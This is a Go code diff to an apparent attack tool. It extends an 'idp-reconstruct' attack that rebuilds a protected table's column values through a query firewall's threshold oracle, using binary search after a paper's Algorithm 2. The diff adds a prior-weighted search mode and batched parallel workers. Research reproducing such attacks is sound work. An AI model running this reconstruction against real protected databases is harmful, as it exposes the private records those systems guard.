@@ -52,6 +52,7 @@ var IDPReconstruct = &Attack{
 			p = &ReconstructParams{}
 			o.Params = p
 		}
+		f.StringVar(&p.Search, "search", p.Search, "how a search cuts a range of a column's values: weighted (where half the rows the values found so far expect lie; the default) or halving (at half its values, the paper's)")
 		f.StringVar(&p.Resume, "resume", p.Resume, "resume the run whose result (interrupted or stopped) was written to this file with --json: its completed columns are not asked again")
 		f.IntVar(&o.Parallel, "parallel", max(o.Parallel, 1), "split each column's groups over this many connections to the firewall (1: one connection, the queries in sequence)")
 	},
@@ -165,24 +166,25 @@ func reconAnd(a, b string) string {
 }
 
 // split is Algorithm 2 with binary search over the value indexes [i, j) of
-// d, known to hold s of the rows where selects, asked through oracle: it
-// appends each value's index and count to out.
-func split(ctx context.Context, oracle *ThresholdOracle, where string, d Domain, i, j, s int64, out []recGroup) ([]recGroup, error) {
+// d, known to hold s of the rows where selects, asked through oracle, each
+// range cut where prior says (idp_reconstruct_prior.go; nil: at half its
+// values): it appends each value's index and count to out.
+func split(ctx context.Context, oracle *ThresholdOracle, where string, d Domain, prior *valuePrior, i, j, s int64, out []recGroup) ([]recGroup, error) {
 	if s <= 0 {
 		return out, nil
 	}
 	if j-i == 1 {
 		return append(out, recGroup{vals: []int64{i}, count: s}), nil
 	}
-	m := i + (j-i)/2
+	m := prior.cut(i, j)
 	left, err := oracle.Count(ctx, reconAnd(where, d.Range(i, m)), 0, s)
 	if err != nil {
 		return out, err
 	}
-	if out, err = split(ctx, oracle, where, d, i, m, left, out); err != nil {
+	if out, err = split(ctx, oracle, where, d, prior, i, m, left, out); err != nil {
 		return out, err
 	}
-	return split(ctx, oracle, where, d, m, j, s-left, out)
+	return split(ctx, oracle, where, d, prior, m, j, s-left, out)
 }
 
 // splitGroups splits every group by d, the ci-th column, with one worker
@@ -205,14 +207,20 @@ func (r *reconstruction) splitGroups(ctx context.Context, oracles []*ThresholdOr
 		firstErr error
 		wg       sync.WaitGroup
 	)
-	take := func() (int, bool) {
+	batch := r.newSearchBatches(d, len(groups), &mu)
+	take := func(step *lockstep) (int, *valuePrior, bool) {
 		mu.Lock()
 		defer mu.Unlock()
-		if firstErr != nil || taken == len(groups) {
-			return 0, false
+		for {
+			if firstErr != nil || taken == len(groups) {
+				return 0, nil, false
+			}
+			if taken < batch.end {
+				taken++
+				return taken - 1, batch.prior, true
+			}
+			batch.await(step, func() bool { return firstErr == nil && taken == batch.end && taken < len(groups) })
 		}
-		taken++
-		return taken - 1, true
 	}
 	work := func(oracle *ThresholdOracle, step *lockstep) {
 		defer wg.Done()
@@ -220,18 +228,19 @@ func (r *reconstruction) splitGroups(ctx context.Context, oracles []*ThresholdOr
 			defer step.leave()
 		}
 		for {
-			gi, ok := take()
+			gi, prior, ok := take(step)
 			if !ok {
 				return
 			}
 			g := groups[gi]
-			p, err := split(ctx, oracle, r.where(g), d, 0, d.Size(), g.count, nil)
+			p, err := split(ctx, oracle, r.where(g), d, prior, 0, d.Size(), g.count, nil)
 			mu.Lock()
 			if err != nil {
 				if firstErr == nil || errors.Is(firstErr, errStopped) && !errors.Is(err, errStopped) {
 					firstErr = err
 				}
 				r.q.halt()
+				batch.wake()
 				mu.Unlock()
 				return
 			}
@@ -242,6 +251,9 @@ func (r *reconstruction) splitGroups(ctx context.Context, oracles []*ThresholdOr
 					progress(reported, nextLen)
 				}
 				reported++
+			}
+			if reported == batch.end {
+				batch.next(parts)
 			}
 			mu.Unlock()
 		}
@@ -392,6 +404,11 @@ func runIDPReconstruct(ctx context.Context, q Querier, o Options) (*Result, erro
 func checkReconOptions(o Options) error {
 	if o.Target.Table == "" || len(o.Domains) == 0 {
 		return errors.New("idp-reconstruct needs a table (--table) and the public domains of the columns to rebuild (--domain, in order)")
+	}
+	if p, _ := o.Params.(*ReconstructParams); p != nil {
+		if err := checkSearch(p.Search); err != nil {
+			return err
+		}
 	}
 	seen := map[string]bool{}
 	for _, d := range o.Domains {
